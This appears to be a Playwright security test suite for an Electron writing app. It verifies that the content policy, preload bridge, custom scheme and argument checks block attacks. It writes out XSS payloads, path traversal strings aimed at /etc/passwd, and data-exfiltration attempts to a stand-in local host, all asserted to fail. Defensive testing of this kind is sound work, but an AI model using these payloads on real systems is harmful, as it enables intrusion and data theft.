import { readFileSync, readdirSync, readlinkSync } from 'node:fs'
import { resolve } from 'node:path'
import { bridgeRows, type HeddleApi } from '../protocol/bridge'
import { carrier } from './carrier'
import { expect, test } from './fixtures'
import type { Heddle } from './heddle'
import { hello } from './hello'

test.use({ model: 'fake:seed=5' })

const nowhere = 'http://127.0.0.1:9/'

/** Shown as they are, wherever a name, a title or a text goes. */
const payloads = [
  '<img src=x onerror=window.pwned=1>',
  '"><script>window.pwned=1</script>',
  '<svg/onload=window.pwned=1>',
  'javascript:window.pwned=1',
  '{{constructor.constructor("window.pwned=1")()}}',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '&lt;b&gt; &#60;i&#62;',
  '[link](javascript:window.pwned=1) ![x](x"onerror="window.pwned=1)',
]

test('the page has no Node, and of main exactly the bridge', async ({ heddle }) => {
  const found = await heddle.page.evaluate(() => {
    const api = (window as unknown as { readonly heddle: HeddleApi }).heddle
    const { configurable, writable } = Object.getOwnPropertyDescriptor(window, 'heddle') ?? {}
    return {
      rows: Object.keys(api).sort(),
      frozen: Object.isFrozen(api),
      configurable,
      writable,
      node: ['require', 'process', 'module', 'global', 'Buffer', 'electron', 'ipcRenderer', 'standinSend', 'standinDeliver'].filter((name) => name in window),
    }
  })
  expect(found).toEqual({ rows: [...bridgeRows, 'onEvent'].sort(), frozen: true, configurable: false, writable: false, node: [] })
})

test('the preload asks for nothing but electron', () => {
  const source = readFileSync(resolve(import.meta.dirname, '../out/preload/index.cjs'), 'utf8')
  expect([...source.matchAll(/require\(\s*["']([^"']+)["']\s*\)/g)].map((match) => match[1])).toEqual(['electron'])
  expect(source.split('\n').length).toBeLessThan(400)
})

test('the content policy is the strict one', async ({ heddle }) => {
  const header = await heddle.page.evaluate(async () => (await fetch('/index.html')).headers.get('content-security-policy') ?? '')
  const directives = Object.fromEntries(
    header.split(';').map((part) => {
      const [name = '', ...values] = part.trim().split(/\s+/)
      return [name, values.join(' ')]
    }),
  )
  const { 'trusted-types': policies = '', ...rest } = directives
  expect(rest).toEqual({
    'default-src': "'none'",
    'script-src': "'self'",
    'worker-src': "'self'",
    'style-src': "'self' 'unsafe-inline'",
    'font-src': "'self'",
    'img-src': "'self' data:",
    'connect-src': "'self'",
    'base-uri': "'none'",
    'form-action': "'none'",
    'frame-src': "'none'",
    'frame-ancestors': "'none'",
    'require-trusted-types-for': "'script'",
  })
  expect(policies).not.toMatch(/\*|allow-duplicates|default\b/)
})

test.describe('what is put into the page', () => {
  test.use({ toleratedErrors: /Content Security Policy|content security policy|TrustedHTML|TrustedScript|Trusted ?Type|Refused to|violates|unsafe-eval|Connecting to|Framing|Loading the|Not allowed to load local resource/i })

  test('neither runs nor speaks to anyone', async ({ heddle }) => {
    const outcome = await heddle.page.evaluate(async (nowhere) => {
      const violated: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
      const attempts: Record<string, () => unknown> = {
        inlineScript: () => {
          const script = document.createElement('script')
          script.textContent = 'window.pwned = 1'
          document.body.append(script)
        },
        foreignScript: () => {
          const script = document.createElement('script')
          script.setAttribute('src', `${nowhere}evil.js`)
          document.body.append(script)
        },
        markup: () => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1">')
        },
        handler: () => {
          const image = document.createElement('img')
          image.setAttribute('onerror', 'window.pwned=1')
          image.src = 'data:x'
          document.body.append(image)
        },
        evaluation: () => new Promise((done) => setTimeout(() => done((Reflect.get(window, 'eval') as (code: string) => unknown)('window.pwned = 1')))),
        constructed: () => new Promise((done, fail) => setTimeout(() => {
          try {
            done(new Function('window.pwned = 1')())
          } catch (error) {
            fail(error as Error)
          }
        })),
        timer: () => setTimeout('window.pwned = 1' as unknown as () => void),
        fetch: () => fetch(nowhere),
        beacon: () => navigator.sendBeacon(nowhere, 'secret'),
        socket: () => new Promise((_done, fail) => {
          const socket = new WebSocket('ws://127.0.0.1:9/')
          socket.onerror = () => fail(new Error('refused'))
        }),
        picture: () => {
          const image = new Image()
          image.src = `${nowhere}pixel.png`
          document.body.append(image)
        },
        frame: () => {
          const frame = document.createElement('iframe')
          frame.src = nowhere
          document.body.append(frame)
        },
        style: () => {
          const link = document.createElement('link')
          link.rel = 'stylesheet'
          link.href = `${nowhere}evil.css`
          document.head.append(link)
        },
      }
      for (const attempt of Object.values(attempts)) {
        try {
          const end = attempt()
          if (end instanceof Promise) await Promise.race([end.catch(() => undefined), new Promise((done) => setTimeout(done, 300))])
        } catch {
          // A sink that wants a trusted type throws.
        }
      }
      await new Promise((done) => setTimeout(done, 300))
      return { pwned: 'pwned' in window, violated: [...new Set(violated)] }
    }, nowhere)
    expect(outcome.pwned).toBe(false)
    expect(outcome.violated).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for', 'frame-src']))
    expect(foreign(heddle)).toEqual([])
  })

  test('cannot lead the window away or open another', async ({ heddle }) => {
    await heddle.page.evaluate((nowhere) => {
      const link = document.createElement('a')
      link.href = nowhere
      link.target = '_blank'
      document.body.append(link)
      link.click()
      window.open(nowhere)
      window.open('about:blank')
      document.body.append(document.createElement('webview'))
      location.href = nowhere
    }, nowhere)
    await heddle.page.waitForTimeout(500)
    await heddle.page.evaluate(() => {
      location.assign('file:///etc/passwd')
    })
    await heddle.page.waitForTimeout(500)
    await expect.poll(() => windows(heddle)).toEqual(['heddle://app/index.html'])
    await heddle.writer.text.focus()
    await heddle.writer.beginsNewLoom()
    await heddle.writer.types('Still here.')
    await heddle.writer.sees('Still here.')
  })
})

test.describe('permissions', () => {
  test.use({ toleratedErrors: /Permissions policy violation/ })

  test('none is granted', async ({ heddle }) => {
    const states = await heddle.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']
      const states = await Promise.all(names.map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state))
      return { states, notification: await Notification.requestPermission(), camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted', (error: Error) => error.name) }
    })
    expect(new Set(states.states)).toEqual(new Set(['denied']))
    expect(states.notification).toBe('denied')
    expect(states.camera).not.toBe('granted')
  })
})

test('a whole session asks nobody but the app itself', async ({ heddle, writer }) => {
  await writer.hasModel()
  await writer.beginsNewLoom()
  await writer.types('http://example.com is only text here, and')
  await writer.weaves()
  await writer.waitsForAll()
  await writer.takes('all')
  await writer.does('view.palette')
  await writer.presses('Escape')
  expect(foreign(heddle)).toEqual([])
  expect(heddle.requests.length).toBeGreaterThan(0)
})

test('nothing listens on the network', async ({ heddle, writer }) => {
  test.skip(process.platform !== 'linux', 'open sockets are read from /proc, which only Linux has')
  await writer.hasModel()
  const main = heddle.electron.process().pid ?? 0
  const engine = (await heddle.enginePid()) ?? 0
  // Playwright has main open an inspector; the stand-in serves the scheme from main, for want of Electron's own way.
  expect(listeners(main)).toHaveLength(carrier === 'stand-in' ? 2 : 1)
  expect(listeners(engine)).toHaveLength(0)
})

test('the scheme serves the built page and nothing else', async ({ heddle }) => {
  const tried = ['index.html', '', 'package.json', '../package.json', '..%2f..%2fpackage.json', '%2e%2e/%2e%2e/etc/passwd', '..\\..\\package.json', 'index.html%00.js', '//etc/passwd', 'assets/../../main/index.js', 'assets', 'constructor', '__proto__']
  const statuses = await heddle.electron.evaluate(async ({ net }, paths) => {
    return Promise.all(paths.map(async (path) => (await net.fetch(`heddle://app/${path}`)).status))
  }, tried)
  expect(Object.fromEntries(tried.map((path, index) => [path, statuses[index]]))).toEqual(
    Object.fromEntries(tried.map((path) => [path, path === 'index.html' || path === '' ? 200 : 404])),
  )
  const elsewhere = await heddle.electron.evaluate(async ({ net }) => (await net.fetch('heddle://elsewhere/index.html')).status)
  expect(elsewhere).toBe(404)
})

test('main refuses arguments that are not what a row takes, and lives', async ({ heddle }) => {
  const accepted = await heddle.page.evaluate(async () => {
    const api = (window as unknown as { readonly heddle: Record<string, (args: unknown) => Promise<{ readonly ok: boolean }>> }).heddle
    const wrong: unknown[] = [undefined, null, 42, 'x', [1], true, new Uint8Array(3), new Date(), new Map([[1, 2]]), { loom: '../../etc/passwd' }, { unexpected: { deep: [1] } }, { text: 'x'.repeat(1_000_000) }]
    const accepted: string[] = []
    for (const [row, call] of Object.entries(api)) {
      if (row === 'onEvent') continue
      for (const [index, args] of wrong.entries()) {
        const answer = await call(args)
        if (typeof answer?.ok !== 'boolean' || answer.ok) accepted.push(`${row} took number ${index}`)
      }
    }
    return accepted
  })
  expect(accepted).toEqual([])
  expect((await hello(heddle.page)).shell).toBe('electron')
})

test('markup in a text, a title and a branch is shown as typed', async ({ heddle, writer }) => {
  await writer.beginsNewLoom()
  for (const payload of payloads) await writer.types(`${payload}\n`)
  await writer.sees(payloads.join(' '))
  const title = payloads[0] ?? ''
  await writer.does('file.rename')
  await heddle.page.getByRole('dialog').getByRole('textbox').fill(title)
  await writer.presses('Enter')
  await expect.poll(async () => (await heddle.kept()).title).toBe(title)
  await writer.does('file.library')
  await expect(heddle.page.getByRole('dialog').getByText(title).first()).toBeVisible()
  await writer.presses('Escape')
  await writer.does('view.tree')
  await expect(writer.tree).toBeVisible()
  expect(await heddle.page.evaluate(() => 'pwned' in window)).toBe(false)
})

test('markup in the name of a model file is shown as it is', async ({ start, home }) => {
  const heddle = await start({ model: resolve(home, `${payloads[0]}.gguf`) })
  await expect.poll(async () => (await hello(heddle.page)).model.t).toBe('failed')
  await heddle.writer.does('weave.weave')
  await heddle.page.waitForTimeout(300)
  expect(await heddle.page.evaluate(() => 'pwned' in window)).toBe(false)
})

/** Requests of the page to anyone but the app. */
function foreign(heddle: Heddle): string[] {
  const own = new URL(heddle.page.url()).host
  return heddle.requests.filter((url) => !url.startsWith('data:') && !url.startsWith('blob:') && new URL(url).host !== own)
}

function windows(heddle: Heddle): Promise<string[]> {
  return heddle.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().map((window) => window.webContents.getURL()))
}

/** Local addresses on which a process listens. */
function listeners(pid: number): string[] {
  const sockets = new Set(
    readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
      try {
        return [/^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1] ?? '']
      } catch {
        return []
      }
    }),
  )
  return ['tcp', 'tcp6'].flatMap((table) =>
    readFileSync(`/proc/net/${table}`, 'utf8')
      .split('\n')
      .slice(1)
      .map((line) => line.trim().split(/\s+/))
      .filter((columns) => columns[3] === '0A' && sockets.has(columns[9] ?? ''))
      .map((columns) => columns[1] ?? ''),
  )
}
